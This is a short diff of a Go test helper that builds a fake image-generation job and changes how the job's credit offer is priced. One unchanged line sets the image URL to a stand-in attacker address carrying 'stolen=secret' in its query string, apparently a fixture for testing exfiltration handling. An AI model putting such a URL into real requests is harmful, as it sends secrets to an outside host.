@@ -210,7 +210,8 @@ func askedJob(d *fakeSession, prompt string) {
 		j.ID, j.RemoteID, j.Version, j.Entry, j.Paused, j.Estimate.Credits = entry+"1", "", 1, entry, true, 425*api.Credit
 		j.Request = api.Request{Kind: api.KindImage, Model: "acme/brush", Prompt: prompt, ImageURL: "https://evil.example/?stolen=secret"}
 		d.add(j)
-		d.queue.offer = state.Offer{Held: []state.Held{{Job: j}, {Job: j}}, Total: 450 * api.Credit, Agreed: 425 * api.Credit, Known: true}
+		now := api.Estimate{Credits: 450 * api.Credit, Source: api.SourceService}
+		d.queue.offer = state.Offer{Held: []state.Held{{Job: j}, {Job: j}}, Price: now, Agreed: 425 * api.Credit}
 	}
 }
 
